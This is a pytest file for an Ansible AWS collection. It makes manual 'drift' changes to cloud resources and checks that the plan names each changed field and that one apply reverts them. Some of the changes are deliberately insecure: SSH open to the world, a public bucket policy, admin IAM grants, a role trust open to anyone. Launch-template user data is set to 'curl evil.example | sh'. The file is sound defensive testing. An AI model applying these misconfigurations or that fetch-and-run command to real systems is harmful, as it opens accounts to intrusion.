"""What is changed by hand is named with resource and field, nothing else is, and one apply repairs it."""

import base64
import json
from collections.abc import Callable
from typing import Any

from ansible_collections.pettracker.aws.plugins.module_utils.kinds.kind import Scope
from ansible_collections.pettracker.aws.plugins.module_utils.owned_resources import identities, listed, unmanaged
from ansible_collections.pettracker.aws.plugins.module_utils.plan.changes import Change

from tests.plan.world import NAME, TAGS, World, tagged

Client = Callable[[str], Any]


def named(changes: list[Change]) -> set[tuple[str, str]]:
    return {(change.resource, item.path) for change in changes for item in change.fields}


def test_on_an_empty_account_the_plan_says_what_apply_then_does(world: World) -> None:
    planned = world.plan()
    applied = world.apply()
    assert [(change.resource, change.action, named([change])) for change in planned] == [
        (change.resource, change.action, named([change])) for change in applied
    ]
    assert {change.action for change in planned if "default" not in change.name} == {"create"}
    assert world.plan() == []
    assert world.apply() == []


def test_one_variable_is_one_field(world: World) -> None:
    world.apply()
    world.parameters["log_groups"]["groups"][1]["retention_days"] = 30
    (change,) = world.plan()
    assert (change.resource, change.action) == ("log group /service", "update")
    assert [(item.path, item.before, item.after) for item in change.fields] == [("retention_days", 14, 30)]


def by_name(name: str) -> list[dict[str, Any]]:
    return [{"Name": "tag:Name", "Values": [name]}]


def test_another_image_is_the_template_and_whose_hosts_are_replaced(world: World) -> None:
    world.apply()
    world.parameters["launch_template"]["image_id"] = "image-to-be-made"
    (change,) = world.plan()
    assert [(item.path, item.before, item.unknown) for item in change.fields] == [("image", "ami-00000001", True)]
    assert change.interrupts == ("Hosts are replaced one after the other by the rollout that follows.",)


def test_a_plan_says_which_version_of_the_template_hosts_will_have(world: World) -> None:
    def version() -> int:
        world.plan()
        latest: int = world.results["launch_template"]["latest_version"]
        return latest

    assert version() == 1
    world.apply()
    assert version() == 1
    world.parameters["launch_template"]["tags"] = tagged("service") | {"Owner": "ann"}
    assert version() == 1
    world.parameters["launch_template"]["instance_type"] = "c5.xlarge"
    assert version() == 2


class Hand:
    """A person with administrator's credentials."""

    def __init__(self, client: Client) -> None:
        self.ec2, self.s3, self.iam = client("ec2"), client("s3"), client("iam")
        self.logs, self.cloudwatch, self.elb = client("logs"), client("cloudwatch"), client("elbv2")

    def id_of(self, operation: str, key: str, identity: str, name: str) -> str:
        found = getattr(self.ec2, operation)(Filters=by_name(name))[key]
        return found[0][identity]

    def group(self, name: str) -> str:
        return self.id_of("describe_security_groups", "SecurityGroups", "GroupId", name)

    def table(self, name: str) -> dict[str, Any]:
        return self.ec2.describe_route_tables(Filters=by_name(f"{NAME}-{name}"))["RouteTables"][0]

    def change_the_network(self) -> set[tuple[str, str]]:
        vpc = self.id_of("describe_vpcs", "Vpcs", "VpcId", NAME)
        subnet = self.id_of("describe_subnets", "Subnets", "SubnetId", f"{NAME}-private-us-east-1a")
        gateway = self.id_of("describe_internet_gateways", "InternetGateways", "InternetGatewayId", NAME)
        self.ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": False})
        self.ec2.create_tags(Resources=[vpc], Tags=[{"Key": "Owner", "Value": "ann"}])
        self.ec2.modify_subnet_attribute(SubnetId=subnet, MapPublicIpOnLaunch={"Value": True})
        self.ec2.create_tags(Resources=[subnet], Tags=[{"Key": "Tier", "Value": "public"}])
        self.ec2.delete_tags(Resources=[gateway], Tags=[{"Key": "Environment"}])
        public, private = self.table("public"), self.table("private-us-east-1b")
        self.ec2.create_route(RouteTableId=public["RouteTableId"], DestinationCidrBlock="192.168.0.0/16", GatewayId=gateway)
        self.ec2.replace_route(RouteTableId=private["RouteTableId"], DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
        (association,) = (item for item in private["Associations"] if item.get("SubnetId"))
        self.ec2.disassociate_route_table(AssociationId=association["RouteTableAssociationId"])
        endpoint = self.ec2.describe_vpc_endpoints()["VpcEndpoints"][0]
        self.ec2.modify_vpc_endpoint(VpcEndpointId=endpoint["VpcEndpointId"], RemoveRouteTableIds=[public["RouteTableId"]])
        (acl,) = self.ec2.describe_network_acls(Filters=by_name(f"{NAME}-default"))["NetworkAcls"]
        refused = {"Protocol": "6", "RuleAction": "deny", "CidrBlock": "10.9.0.0/16", "PortRange": {"From": 443, "To": 443}}
        self.ec2.create_network_acl_entry(NetworkAclId=acl["NetworkAclId"], RuleNumber=90, Egress=False, **refused)
        self.ec2.replace_network_acl_entry(NetworkAclId=acl["NetworkAclId"], RuleNumber=100, Egress=True, **refused)
        other = self.ec2.create_network_acl(VpcId=acl["VpcId"])["NetworkAcl"]["NetworkAclId"]
        self.ec2.replace_network_acl_association(
            AssociationId=acl["Associations"][0]["NetworkAclAssociationId"], NetworkAclId=other
        )
        (flow_log,) = self.ec2.describe_flow_logs()["FlowLogs"]
        self.ec2.create_tags(Resources=[flow_log["FlowLogId"]], Tags=[{"Key": "Project", "Value": "other"}])
        name = {"Key": "Name", "Value": f"{NAME}-us-east-1a"}
        (nat,) = (item for item in self.ec2.describe_nat_gateways()["NatGateways"] if name in item["Tags"])
        self.ec2.create_tags(Resources=[nat["NatGatewayId"]], Tags=[{"Key": "Why", "Value": "?"}])
        (address,) = self.ec2.describe_addresses(Filters=by_name(f"{NAME}-us-east-1b"))["Addresses"]
        self.ec2.delete_tags(Resources=[address["AllocationId"]], Tags=[{"Key": "ManagedBy"}])
        return {
            (f"VPC {NAME}", "dns_hostnames"),
            (f"VPC {NAME}", "tags.Owner"),
            (f"subnet {NAME}-private-us-east-1a", "public_addresses"),
            (f"subnet {NAME}-private-us-east-1a", "tags.Tier"),
            (f"internet gateway {NAME}", "tags.Environment"),
            (f"route table {NAME}-public", "routes.192.168.0.0/16"),
            (f"route table {NAME}-private-us-east-1b", "routes.0.0.0.0/0"),
            (f"route table {NAME}-private-us-east-1b", "subnets"),
            (f"VPC endpoint {NAME}-s3", "route_tables"),
            (f"network ACL {NAME}-default", "entries.ingress 90"),
            (f"network ACL {NAME}-default", "entries.egress 100"),
            (f"network ACL {NAME}-default", "subnets"),
            (f"flow log {NAME}", "tags.Project"),
            (f"NAT gateway {NAME}-us-east-1a", "tags.Why"),
            (f"address {NAME}-us-east-1b", "tags.ManagedBy"),
        }

    def change_the_security_groups(self) -> set[tuple[str, str]]:
        balancer, service, default = self.group("balancer"), self.group("service"), self.group("default")
        ssh = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
        https = {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
        described = https | {"IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": "whatever"}]}
        http = {"IpProtocol": "tcp", "FromPort": 80, "ToPort": 80, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
        everything = {"IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": balancer}]}
        self.ec2.authorize_security_group_ingress(GroupId=service, IpPermissions=[ssh, everything])
        self.ec2.revoke_security_group_ingress(GroupId=balancer, IpPermissions=[http])
        self.ec2.update_security_group_rule_descriptions_egress(GroupId=service, IpPermissions=[described])
        self.ec2.authorize_security_group_egress(GroupId=default, IpPermissions=[https])
        self.ec2.create_tags(Resources=[service], Tags=[{"Key": "Environment", "Value": "production"}])
        return {
            ("security group service", "ingress.tcp/22 from 0.0.0.0/0"),
            ("security group service", "ingress.all from balancer"),
            ("security group service", "egress.tcp/443 to 0.0.0.0/0"),
            ("security group service", "tags.Environment"),
            ("security group balancer", "ingress.tcp/80 from 0.0.0.0/0"),
            ("security group default", "egress.tcp/443 to 0.0.0.0/0"),
        }

    def change_the_buckets(self) -> set[tuple[str, str]]:
        self.s3.put_bucket_versioning(Bucket="models", VersioningConfiguration={"Status": "Suspended"})
        self.s3.delete_public_access_block(Bucket="models")
        self.s3.put_bucket_tagging(Bucket="models", Tagging={"TagSet": [{"Key": "Name", "Value": "models"}]})
        self.s3.put_bucket_ownership_controls(
            Bucket="models", OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]}
        )
        rules = self.s3.get_bucket_lifecycle_configuration(Bucket="models")["Rules"]
        rules[0] |= {"Expiration": {"Days": 3650}, "Status": "Disabled"}
        rules[1] = {"ID": "cold", "Filter": {"Prefix": "experiments/"}, "Status": "Enabled"} | {
            "Transitions": [{"Days": 30, "StorageClass": "GLACIER"}]
        }
        self.s3.put_bucket_lifecycle_configuration(Bucket="models", LifecycleConfiguration={"Rules": rules})
        document = json.loads(self.s3.get_bucket_policy(Bucket="transfer")["Policy"])
        document["Statement"].append(
            {
                "Sid": "Leak",
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": "arn:aws:s3:::transfer/*",
            }
        )
        self.s3.put_bucket_policy(Bucket="transfer", Policy=json.dumps(document))
        default = {"SSEAlgorithm": "aws:kms"}
        self.s3.put_bucket_encryption(
            Bucket="transfer",
            ServerSideEncryptionConfiguration={
                "Rules": [{"ApplyServerSideEncryptionByDefault": default, "BucketKeyEnabled": True}]
            },
        )
        return {
            ("bucket models", "versioning"),
            ("bucket models", "public_access_blocked"),
            ("bucket models", "ownership"),
            *(("bucket models", f"lifecycle.everything.{key}") for key in ("expire_days", "remove_markers", "enabled")),
            *(
                ("bucket models", f"lifecycle.rollout.{key}")
                for key in ("enabled", "prefix", "noncurrent_days", "remove_markers")
            ),
            *(("bucket models", f"lifecycle.cold.{key}") for key in ("enabled", "prefix", "other.Transitions")),
            *(("bucket models", f"tags.{key}") for key in TAGS),
            *(("bucket transfer", f"policy.Statement.Leak.{key}") for key in ("Effect", "Principal", "Action", "Resource")),
            ("bucket transfer", "encryption"),
        }

    def change_the_roles(self) -> set[tuple[str, str]]:
        admin = {"Version": "2012-10-17", "Statement": [{"Sid": "All", "Effect": "Allow", "Action": "*", "Resource": "*"}]}
        read = {
            "Version": "2012-10-17",
            "Statement": [{"Sid": "Read", "Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}],
        }
        self.iam.put_role_policy(RoleName="service", PolicyName="quick-fix", PolicyDocument=json.dumps(admin))
        self.iam.put_role_policy(RoleName="service", PolicyName="service", PolicyDocument=json.dumps(read))
        self.iam.attach_role_policy(RoleName="service", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
        self.iam.update_role(RoleName="service", Description="my hosts", MaxSessionDuration=43200)
        trust = json.loads(json.dumps(self.iam.get_role(RoleName="service")["Role"]["AssumeRolePolicyDocument"]))
        trust["Statement"][0]["Principal"] = {"AWS": "*"}
        self.iam.update_assume_role_policy(RoleName="service", PolicyDocument=json.dumps(trust))
        self.iam.untag_role(RoleName="service", TagKeys=["Project"])
        self.iam.remove_role_from_instance_profile(InstanceProfileName="service", RoleName="service")
        return {
            *(("role service", f"inline_policies.quick-fix.Statement.All.{key}") for key in ("Effect", "Action", "Resource")),
            ("role service", "inline_policies.quick-fix.Version"),
            ("role service", "inline_policies.service.Statement.Read.Resource"),
            ("role service", "managed_policies"),
            ("role service", "description"),
            ("role service", "session_seconds"),
            ("role service", "trust.Statement.Hosts.Principal.AWS"),
            ("role service", "trust.Statement.Hosts.Principal.Service"),
            ("role service", "tags.Project"),
            ("instance profile service", "role"),
        }

    def change_the_template(self) -> set[tuple[str, str]]:
        (template,) = self.ec2.describe_launch_templates()["LaunchTemplates"]
        by_id = {"LaunchTemplateId": template["LaunchTemplateId"]}
        (version,) = self.ec2.describe_launch_template_versions(**by_id)["LaunchTemplateVersions"]
        data = version["LaunchTemplateData"] | {"InstanceType": "t3.micro", "KeyName": "ann"}
        data["MetadataOptions"] |= {"HttpTokens": "optional"}
        data["BlockDeviceMappings"][0]["Ebs"] |= {"Encrypted": False}
        data["UserData"] = base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh").decode()
        self.ec2.create_launch_template_version(**by_id, LaunchTemplateData=data)
        self.ec2.create_tags(Resources=[template["LaunchTemplateId"]], Tags=[{"Key": "Owner", "Value": "ann"}])
        return {
            ("launch template service", "instance_type"),
            ("launch template service", "other.KeyName"),
            ("launch template service", "metadata_options.http_tokens"),
            ("launch template service", "volumes./dev/xvda.encrypted"),
            ("launch template service", "user_data_sha256"),
            ("launch template service", "default_version"),
            ("launch template service", "tags.Owner"),
        }

    def change_what_watches(self) -> set[tuple[str, str]]:
        self.logs.put_retention_policy(logGroupName="/service", retentionInDays=3)
        arn = self.logs.describe_log_groups(logGroupNamePrefix="/flow")["logGroups"][0]["arn"].removesuffix(":*")
        self.logs.tag_resource(resourceArn=arn, tags={"Owner": "ann"})
        self.cloudwatch.disable_alarm_actions(AlarmNames=["memory"])
        (cpu,) = self.cloudwatch.describe_alarms(AlarmNames=["cpu"])["MetricAlarms"]
        kept = ("AlarmName", "AlarmDescription", "Namespace", "MetricName", "Statistic", "ComparisonOperator", "Dimensions")
        self.cloudwatch.put_metric_alarm(
            **{key: cpu[key] for key in kept}, Threshold=99.0, Period=60, EvaluationPeriods=5, TreatMissingData="ignore"
        )
        self.cloudwatch.untag_resource(ResourceARN=cpu["AlarmArn"], TagKeys=["Environment"])
        (group,) = self.elb.describe_target_groups()["TargetGroups"]
        self.elb.modify_target_group(
            TargetGroupArn=group["TargetGroupArn"], HealthCheckPath="/health", Matcher={"HttpCode": "200-499"}
        )
        delay = {"Key": "deregistration_delay.timeout_seconds", "Value": "0"}
        self.elb.modify_target_group_attributes(TargetGroupArn=group["TargetGroupArn"], Attributes=[delay])
        return {
            ("log group /service", "retention_days"),
            ("log group /flow", "tags.Owner"),
            ("alarm memory", "actions_enabled"),
            *(("alarm cpu", field) for field in ("threshold", "period", "evaluation_periods", "datapoints", "missing_data")),
            ("alarm cpu", "tags.Environment"),
            ("target group service", "health_check.path"),
            ("target group service", "health_check.codes"),
            ("target group service", "attributes.deregistration_delay.timeout_seconds"),
        }


def test_each_change_by_hand_is_named_nothing_else_is_and_one_apply_repairs_all(world: World, client: Client) -> None:
    world.apply()
    hand = Hand(client)
    expected = hand.change_the_network() | hand.change_the_security_groups() | hand.change_the_buckets()
    expected |= hand.change_the_roles() | hand.change_the_template() | hand.change_what_watches()
    assert len(expected) > 50
    planned = world.plan()
    assert named(planned) == expected
    assert {change.action for change in planned} == {"update"}
    assert named(world.apply()) == expected
    assert world.plan() == []


def test_what_is_removed_by_hand_is_made_again(world: World, client: Client) -> None:
    world.apply()
    hand = Hand(client)
    (flow_log,) = hand.ec2.describe_flow_logs()["FlowLogs"]
    hand.ec2.delete_flow_logs(FlowLogIds=[flow_log["FlowLogId"]])
    hand.logs.delete_log_group(logGroupName="/service")
    hand.cloudwatch.delete_alarms(AlarmNames=["cpu"])
    gateway = hand.ec2.describe_internet_gateways(Filters=by_name(NAME))["InternetGateways"][0]
    hand.ec2.detach_internet_gateway(InternetGatewayId=gateway["InternetGatewayId"], VpcId=gateway["Attachments"][0]["VpcId"])
    changes = {change.resource: change for change in world.plan()}
    assert {name: change.action for name, change in changes.items()} == {
        f"flow log {NAME}": "create",
        "log group /service": "create",
        "alarm cpu": "create",
        f"internet gateway {NAME}": "update",
    }
    assert changes[f"internet gateway {NAME}"].interrupts
    world.apply()
    assert world.plan() == []


def test_a_renamed_vpc_and_a_route_table_without_a_name_are_still_the_same_ones(world: World, client: Client) -> None:
    world.apply()
    hand = Hand(client)
    vpc = hand.id_of("describe_vpcs", "Vpcs", "VpcId", NAME)
    hand.ec2.create_tags(Resources=[vpc], Tags=[{"Key": "Name", "Value": "mine"}])
    table = hand.table("public")["RouteTableId"]
    hand.ec2.delete_tags(Resources=[table], Tags=[{"Key": "Name"}])
    assert named(world.plan()) == {(f"VPC {NAME}", "tags.Name"), (f"route table {NAME}-public", "tags.Name")}
    world.apply()
    assert world.plan() == []


def test_what_carries_the_tags_and_nothing_wants_is_listed(world: World, client: Client) -> None:
    world.apply()
    world.plan()
    tags = {"Project": "pettracker", "Environment": "dev"}
    scope = Scope(tags, world.results["vpc_network"]["vpc_id"])
    assert unmanaged(listed(client, scope), world.claimed) == {}
    client("s3").create_bucket(Bucket="forgotten")
    client("s3").put_bucket_tagging(
        Bucket="forgotten", Tagging={"TagSet": [{"Key": key, "Value": value} for key, value in tags.items()]}
    )
    world.parameters["metric_alarms"]["alarms"].pop()
    world.plan()
    left = unmanaged(listed(client, scope), world.claimed)
    assert identities(left) == {"bucket": ["forgotten"], "alarm": ["memory"]}
    assert all(one.since for one in left["bucket"])
